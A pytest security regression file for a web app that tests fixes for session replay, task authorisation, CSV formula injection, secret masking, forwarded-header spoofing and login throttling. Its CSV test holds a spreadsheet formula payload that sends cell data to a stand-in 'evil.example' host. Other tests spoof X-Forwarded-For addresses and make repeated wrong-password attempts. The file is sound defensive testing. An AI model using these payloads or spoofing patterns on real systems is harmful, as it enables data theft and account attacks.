"""Issue 13's findings, each tried as the attacker tried it, on SQLite and PostgreSQL.

Sessions, task authorisation, the CSV writer and the outbox page run through the
test client; forwarded headers and login throttling run against the app served
by uvicorn on loopback, configured as ``touchflow serve`` configures it, because
the finding was about which peer's headers the server believes.
"""

from __future__ import annotations

import asyncio
import csv
import io
import sys
import threading
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from importlib.metadata import distributions
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn
from litestar import Litestar
from litestar.middleware.session.client_side import ClientSideSessionBackend
from litestar.testing import AsyncTestClient
from sqlalchemy import insert, select
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession, async_sessionmaker

from backend.app import create_app
from backend.auth.middleware import SESSION_COOKIE, session_config
from backend.auth.users import set_password
from backend.cli import UVICORN_OPTIONS
from backend.csvfile import CsvWriter
from backend.models import AuditEntry, Delivery, Event, OutboxMessage, Role, Task, User
from backend.ratelimit import TrustedProxies
from backend.settings import Settings
from nodes.sdk import ENTRY_POINT_GROUP
from nodes.sdk.registry import register_all
from runtime.flows import create_flow
from tests.backend.editor.conftest import Editor
from tests.backend.editor.test_edits import _add
from tests.backend.web.conftest import SignedIn
from tests.backend.web.support import (
    PASSWORD,
    MovableClock,
    add_user,
    csrf_from,
    csrf_token,
    post_form,
    settings_for,
    sign_in,
)
from tests.backend.web.test_forms import make_form
from tests.backend.web.test_imports import finish, upload
from tests.runtime.test_plugin_identity import _install
from tests.support.net import free_port as _free_port

Client = AsyncTestClient[Litestar]


async def _user_id(sessions: async_sessionmaker[AsyncSession], email: str) -> int:
    async with sessions() as db:
        user_id = await db.scalar(select(User.id).where(User.email == email))
    assert user_id is not None
    return user_id


async def _session_of(client: Client, sessions: Any, email: str, role: Role) -> str:
    """Sign a new user in on ``client`` and return their session cookie (a second browser).

    One client per app: the app's database connections belong to its event loop.
    """
    await add_user(sessions, email, role)
    client.cookies.clear()
    assert (await sign_in(client, email)).status_code == 303
    return str(client.cookies[SESSION_COOKIE])


def _use(client: Client, cookie: str) -> None:
    client.cookies.clear()
    client.cookies.set(SESSION_COOKIE, cookie)


# --- 2. Logout does not end the session ------------------------------------------------


async def test_a_session_cookie_copied_before_logout_is_dead_after_it(
    signed_in: SignedIn,
) -> None:
    client = await signed_in(Role.marketer)
    stolen = str(client.cookies[SESSION_COOKIE])
    assert (await client.get("/flows", follow_redirects=False)).status_code == 200
    assert (await post_form(client, "/logout", {})).status_code == 303
    _use(client, stolen)  # the copy, replayed after the owner logged out
    response = await client.get("/flows", follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"].startswith("/login")


async def test_a_role_change_and_a_password_change_end_the_users_sessions(
    app: Litestar, signed_in: SignedIn, sessions: async_sessionmaker[AsyncSession]
) -> None:
    client = await signed_in(Role.marketer)
    marketer = str(client.cookies[SESSION_COOKIE])
    admin = await _session_of(client, sessions, "boss@example.com", Role.admin)
    uid = await _user_id(sessions, "marketer@example.com")
    changed = await post_form(
        client, f"/settings/users/{uid}", {"role": "viewer"}, form_page="/settings/users"
    )
    assert changed.status_code == 200
    _use(client, marketer)
    assert (await client.get("/flows", follow_redirects=False)).status_code == 303
    # Signed in again (as a viewer now), then the password changes.
    client.cookies.clear()
    assert (await sign_in(client, "marketer@example.com")).status_code == 303
    assert (await client.get("/flows", follow_redirects=False)).status_code == 200
    async with sessions() as db, db.begin():
        user = await db.get(User, uid)
        assert user is not None
        await set_password(user, "a brand new password")
    assert (await client.get("/flows", follow_redirects=False)).status_code == 303
    # The admin's own session was never touched.
    _use(client, admin)
    assert (await client.get("/settings/users", follow_redirects=False)).status_code == 200


async def test_sessions_end_after_the_idle_and_the_absolute_lifetime(
    signed_in: SignedIn, clock: MovableClock
) -> None:
    client = await signed_in(Role.viewer)
    clock.advance(hours=11)
    assert (
        await client.get("/flows", follow_redirects=False)
    ).status_code == 200  # 11 h idle: still in
    clock.advance(hours=12, minutes=1)
    assert (await client.get("/flows", follow_redirects=False)).status_code == 303

    await sign_in(client, "viewer@example.com")
    for _visit in range(30):  # in use every 11 hours for 330 hours...
        clock.advance(hours=11)
        assert (await client.get("/flows", follow_redirects=False)).status_code == 200
    clock.advance(hours=11)  # ...and still over after 14 days (336 hours)
    assert (await client.get("/flows", follow_redirects=False)).status_code == 303


# --- 5. A viewer can complete anyone's task --------------------------------------------


async def test_a_viewer_completes_only_their_own_task_and_a_marketer_any(
    app: Litestar, signed_in: SignedIn, sessions: async_sessionmaker[AsyncSession]
) -> None:
    viewer = await signed_in(Role.viewer)
    me = await _user_id(sessions, "viewer@example.com")
    async with sessions() as db, db.begin():
        others = await db.scalar(
            insert(Task).values(title="Call Bo", owner_id=None).returning(Task.id)
        )
        mine = await db.scalar(
            insert(Task).values(title="Call Ann", owner_id=me).returning(Task.id)
        )
    page = (await viewer.get("/tasks?show=open")).text
    assert f'action="/tasks/{mine}/done"' in page and f'action="/tasks/{others}/done"' not in page
    refused = await post_form(viewer, f"/tasks/{others}/done", {}, form_page="/tasks")
    assert refused.status_code == 403
    assert "owner" in refused.text
    assert (
        await post_form(viewer, f"/tasks/{mine}/done", {}, form_page="/tasks")
    ).status_code == 303
    await _session_of(viewer, sessions, "m@example.com", Role.marketer)
    done = await post_form(viewer, f"/tasks/{others}/done", {}, form_page="/tasks")
    assert done.status_code == 303
    async with sessions() as db:
        statuses = dict((await db.execute(select(Task.id, Task.status))).all())
        events = (await db.scalars(select(Event.type))).all()
    assert statuses == {mine: "done", others: "done"}
    assert "task.completed" not in events  # tasks without a contact emit nothing


# --- 6. Formula injection in the rejected-rows CSV --------------------------------------


@pytest.fixture
def uploads(app: Litestar, tmp_path: Path) -> Path:
    app.state.import_dir = tmp_path
    return tmp_path


async def test_the_rejected_rows_report_cannot_carry_a_formula(
    signed_in: SignedIn, app: Litestar, uploads: Path
) -> None:
    client = await signed_in(Role.marketer)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    content = f'email;name\nnot-an-email;"{evil.replace(chr(34), chr(34) * 2)}"\n@SUM(1);+1\n'
    location = await upload(client, content.encode())
    token = await csrf_token(client, location)
    started = await client.post(
        f"{location}/start",
        data={"csrf_token": token, "map-0": "email", "map-1": "first_name", "mode": "upsert"},
        follow_redirects=False,
    )
    assert started.status_code == 303
    await finish(app, client)
    report = await client.get(f"{location}/rejected.csv")
    rows = list(csv.reader(io.StringIO(report.text)))
    assert rows[1][2:] == ["not-an-email", "'" + evil]
    assert rows[2][2:] == ["'@SUM(1)", "'+1"]


def test_every_csv_cell_is_guarded() -> None:
    buffer = io.StringIO()
    CsvWriter(buffer).writerow(["=1+1", "-2", "\t=x", "Åsa", None, 7])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        "'=1+1",
        "'-2",
        "'\t=x",
        "Åsa",
        "",
        "7",
    ]


# --- 1. (web side) The outbox showed the receiver's answer and the signing secret -------


async def test_the_outbox_masks_the_secret_and_trims_answers_for_non_admins(
    app: Litestar, signed_in: SignedIn, sessions: async_sessionmaker[AsyncSession]
) -> None:
    secret = "s3cr3t-signing-value-1234"
    async with sessions() as db, db.begin():
        message = await db.scalar(
            insert(OutboxMessage)
            .values(
                idempotency_key="hook-1",
                channel="webhook",
                category="transactional",
                payload={"url": "https://crm.example/hook", "body": {}, "secret": secret},
                status="dead",
                last_error="the receiver refused the webhook: HTTP 403: root:x:0:0 internal",
            )
            .returning(OutboxMessage.id)
        )
        await db.execute(
            insert(Delivery).values(
                outbox_id=message,
                channel="webhook",
                category="transactional",
                detail="HTTP 200: {'internal': 'answer'}",
            )
        )
    marketer = await signed_in(Role.marketer)
    for page in (await marketer.get(f"/outbox/{message}"), await marketer.get("/outbox")):
        assert secret not in page.text
        assert "root:x" not in page.text and "internal" not in page.text
    detail = (await marketer.get(f"/outbox/{message}")).text
    assert "HTTP 403" in detail and "HTTP 200" in detail
    await _session_of(marketer, sessions, "boss@example.com", Role.admin)
    full = (await marketer.get(f"/outbox/{message}")).text
    assert secret not in full and "root:x:0:0 internal" in full


# --- 3 and 4. Forwarded headers and login throttling, served like `touchflow serve` ----


@contextmanager
def _served(app: Litestar) -> Iterator[str]:
    port = _free_port()
    config = uvicorn.Config(
        app, host="127.0.0.1", port=port, log_level="warning", lifespan="on", **UVICORN_OPTIONS
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert thread.is_alive() and time.monotonic() < deadline, "the app did not start"
        time.sleep(0.05)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(timeout=30)


@pytest.fixture
async def serve(db_url: str, engine: AsyncEngine, clock: MovableClock) -> AsyncIterator[Any]:
    """``serve(trusted_proxies)`` -> an httpx client on the app served over loopback."""
    stack: list[Any] = []

    async def start(trusted_proxies: str) -> httpx.AsyncClient:
        app = create_app(settings_for(db_url, trusted_proxies=trusted_proxies), clock=clock)
        served = _served(app)
        url = await asyncio.to_thread(served.__enter__)
        client = httpx.AsyncClient(base_url=url, timeout=20)
        stack.append((served, client))
        return client

    yield start
    for served, client in reversed(stack):
        await client.aclose()
        await asyncio.to_thread(served.__exit__, None, None, None)


async def _try(client: httpx.AsyncClient, email: str, password: str, address: str) -> int:
    client.cookies.clear()
    token = csrf_from((await client.get("/login")).text)
    response = await client.post(
        "/login",
        data={"email": email, "password": password, "csrf_token": token},
        headers={"X-Forwarded-For": address},
        follow_redirects=False,
    )
    return response.status_code


async def test_a_made_up_forwarded_address_does_not_dodge_the_login_limit(
    serve: Any, sessions: async_sessionmaker[AsyncSession]
) -> None:
    """Finding 3: without TRUSTED_PROXIES, X-Forwarded-For from the peer means nothing."""
    await add_user(sessions, "ada@example.com", Role.admin)
    client = await serve("")
    codes = [await _try(client, "ada@example.com", "guess", f"203.0.113.{n}") for n in range(7)]
    assert codes[:5] == [401] * 5 and codes[5:] == [429, 429]
    async with sessions() as db:
        addresses = set((await db.scalars(select(AuditEntry.ip))).all())
    assert addresses == {"127.0.0.1"}


async def test_a_trusted_proxy_names_the_client(
    serve: Any, sessions: async_sessionmaker[AsyncSession]
) -> None:
    await add_user(sessions, "ada@example.com", Role.admin)
    client = await serve("127.0.0.1/32")
    codes = [await _try(client, "ada@example.com", "guess", "203.0.113.5") for _ in range(6)]
    assert codes == [401] * 5 + [429]
    # Another client behind the same proxy is not slowed down by the first one.
    assert await _try(client, "ada@example.com", PASSWORD, "198.51.100.20, 203.0.113.250") == 303
    async with sessions() as db:
        addresses = set((await db.scalars(select(AuditEntry.ip))).all())
    assert addresses == {"203.0.113.5", "203.0.113.250"}


async def test_a_stranger_cannot_lock_the_admin_out(
    serve: Any, sessions: async_sessionmaker[AsyncSession], clock: MovableClock
) -> None:
    """Finding 4: 20 wrong passwords from rotating addresses, then the admin signs in."""
    await add_user(sessions, "ada@example.com", Role.admin)
    client = await serve("127.0.0.1")
    for n in range(25):
        assert await _try(client, "ada@example.com", "guess", f"203.0.113.{n}") == 401
        clock.advance(seconds=5)
    assert await _try(client, "ada@example.com", PASSWORD, "198.51.100.7") == 303


async def test_repeated_failures_back_off_instead_of_locking(
    serve: Any, sessions: async_sessionmaker[AsyncSession], clock: MovableClock
) -> None:
    await add_user(sessions, "ada@example.com", Role.admin)
    client = await serve("127.0.0.1")
    for _ in range(5):
        assert await _try(client, "ada@example.com", "guess", "203.0.113.9") == 401
    assert await _try(client, "ada@example.com", PASSWORD, "203.0.113.9") == 429
    clock.advance(seconds=31)  # the first pause is 30 seconds...
    assert await _try(client, "ada@example.com", "guess", "203.0.113.9") == 401
    clock.advance(seconds=31)  # ...the next one twice as long
    assert await _try(client, "ada@example.com", PASSWORD, "203.0.113.9") == 429
    clock.advance(seconds=30)
    assert await _try(client, "ada@example.com", PASSWORD, "203.0.113.9") == 303


# --- 7. Plugins could silently swap code: the Settings page says what was refused ------


async def test_the_settings_page_shows_a_type_id_refused_for_two_packages(
    app: Litestar,
    signed_in: SignedIn,
    sessions: async_sessionmaker[AsyncSession],
    tmp_path: Path,
) -> None:
    _install(tmp_path, "acme-nodes", "1.0", "acme.tag")
    _install(tmp_path, "rival-nodes", "2.3", "acme.tag")
    sys.path.insert(0, str(tmp_path))
    try:
        points = [
            ep
            for dist in distributions(path=[str(tmp_path)])
            for ep in dist.entry_points
            if ep.group == ENTRY_POINT_GROUP
        ]
        refused = register_all(points)
    finally:
        sys.path.remove(str(tmp_path))
    client = await signed_in(Role.admin)
    app.state.runtime.registry.errors.extend(refused.errors)
    page = await client.get("/settings/node-types")
    assert page.status_code == 200
    assert "acme-nodes 1.0" in page.text and "rival-nodes 2.3" in page.text
    assert "offered by acme-nodes and rival-nodes" in page.text
    assert "action.webhook" in page.text and "touchflow" in page.text  # the built-ins' package
    await _session_of(client, sessions, "v@example.com", Role.viewer)
    assert (await client.get("/settings/node-types")).status_code == 403


# --- Headers -------------------------------------------------------------------------


async def test_admin_pages_forbid_inline_script_and_framing(
    signed_in: SignedIn, sessions: async_sessionmaker[AsyncSession]
) -> None:
    client = await signed_in(Role.marketer)
    for path in ("/login", "/flows", "/contacts"):
        response = await client.get(path)
        policy = response.headers["content-security-policy"]
        assert "script-src 'self'" in policy and "unsafe-inline" not in policy.split("style")[0]
        assert "frame-ancestors 'none'" in policy
        assert response.headers["x-frame-options"] == "DENY"
        assert response.headers["referrer-policy"] == "same-origin"
        assert "strict-transport-security" not in response.headers  # not in production
    await make_form(sessions)
    embedded = await client.get("/f/signup?embed=1")
    assert "frame-ancestors" not in embedded.headers["content-security-policy"]
    assert "x-frame-options" not in embedded.headers  # hosted forms keep their embed rules
    api = await client.get("/healthz")
    assert "content-security-policy" not in api.headers


async def test_production_sends_hsts_and_secure_cookies(db_url: str, engine: AsyncEngine) -> None:
    app = create_app(settings_for(db_url, environment="production"), clock=MovableClock())
    async with AsyncTestClient(app, base_url="http://testserver.local") as client:
        response = await client.get("/login")
    assert response.headers["strict-transport-security"].startswith("max-age=31536000")
    cookie = response.headers["set-cookie"]
    assert cookie.startswith(f"{SESSION_COOKIE}=") and "Secure" in cookie and "HttpOnly" in cookie


async def test_the_session_id_changes_at_every_sign_in(
    app: Litestar, client: Client, sessions: async_sessionmaker[AsyncSession]
) -> None:
    backend = ClientSideSessionBackend(session_config(app.state.settings))

    def session() -> dict[str, Any]:
        return backend.load_data([str(client.cookies[SESSION_COOKIE]).encode()])

    await add_user(sessions, "ada@example.com", Role.viewer)
    await client.get("/login")
    anonymous = session()
    assert "sid" not in anonymous and "uid" not in anonymous
    await sign_in(client, "ada@example.com")
    first = session()
    client.cookies.clear()
    await sign_in(client, "ada@example.com")
    second = session()
    assert first["sid"] != second["sid"] and first["uid"] == second["uid"]
    assert first["csrf"] != anonymous["csrf"]


def test_trusted_proxies_must_be_addresses() -> None:
    with pytest.raises(ValueError, match="addresses or CIDR ranges"):
        Settings(_env_file=None, trusted_proxies="proxy.local")  # type: ignore[call-arg]
    proxies = TrustedProxies(Settings(trusted_proxies="10.0.0.0/8, ::1").trusted_proxies)
    assert proxies.client("10.1.1.1", "203.0.113.7, 10.2.2.2") == "203.0.113.7"
    assert proxies.client("203.0.113.9", "198.51.100.1") == "203.0.113.9"


async def test_the_webhook_secret_is_write_only_in_the_step_settings(
    signed_in: SignedIn, sessions: async_sessionmaker[AsyncSession]
) -> None:
    """Shown once (as typed), never sent back to a browser, kept when the field is left empty."""
    client = await signed_in(Role.marketer)
    async with sessions() as db, db.begin():
        flow = await create_flow(db, "Hooks")
    editor = Editor(client, sessions, flow.id)
    node = await _add(editor, "action.webhook")
    secret = "a-signing-secret-of-32-characters"
    saved = await editor.post(
        f"/nodes/{node}/config", {"cfg.url": "https://crm.example/hook", "cfg.secret": secret}
    )
    assert saved.status_code == 200 and secret not in saved.text
    assert "Saved (hidden)" in saved.text
    panel = await editor.get(f"/nodes/{node}")
    assert secret not in panel.text and 'type="password"' in panel.text
    page = await client.get(f"{editor.base}?node={node}")
    assert page.status_code == 200 and secret not in page.text
    again = await editor.post(
        f"/nodes/{node}/config", {"cfg.url": "https://crm.example/v2", "cfg.secret": ""}
    )
    assert again.status_code == 200
    config = (await editor.flow()).draft_graph["nodes"][0]["config"]
    assert config["secret"] == secret and config["url"] == "https://crm.example/v2"
